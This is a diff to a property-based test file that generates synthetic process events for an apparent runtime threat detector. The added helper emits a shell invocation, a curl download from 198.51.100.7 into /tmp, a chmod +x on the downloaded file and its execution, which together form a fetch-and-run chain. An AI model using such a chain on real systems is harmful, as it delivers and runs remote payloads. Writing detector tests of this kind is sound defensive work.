@@ -38,6 +38,22 @@ const genStream = fc
   .map(toLines)
   .filter((lines) => lines.length > 0);
 
+/** A mix of ordinary commands and ones that trigger findings (shells, downloads, /tmp). */
+function commandFor(i: number): { binary: string; args: string; inInitTree?: boolean } {
+  switch (i % 6) {
+    case 1:
+      return { binary: '/bin/sh', args: `-c step${i}` };
+    case 2:
+      return { binary: '/usr/bin/curl', args: `-so /tmp/f${i % 4} http://198.51.100.7/x` };
+    case 3:
+      return { binary: `/tmp/f${i % 4}`, args: '' };
+    case 4:
+      return { binary: '/bin/chmod', args: `+x /tmp/f${i % 4}`, inInitTree: false };
+    default:
+      return { binary: `/usr/sbin/server${i}`, args: `--n ${i}` };
+  }
+}
+
 function toLines(procs: GenProcess[]): string[] {
   const specs: ProcSpec[] = [];
   procs.forEach((g, i) => {
@@ -51,8 +67,7 @@ function toLines(procs: GenProcess[]): string[] {
     specs.push({
       pid: 100 + i,
       ktime: 1_000 + i,
-      binary: `/bin/p${i}`,
-      args: `--n ${i}`,
+      ...commandFor(i),
       flags: g.exec ? 'execve rootcwd clone' : 'execve',
       start: `2026-01-01T00:00:${String(i).padStart(2, '0')}.5Z`,
       ...pods[g.place],
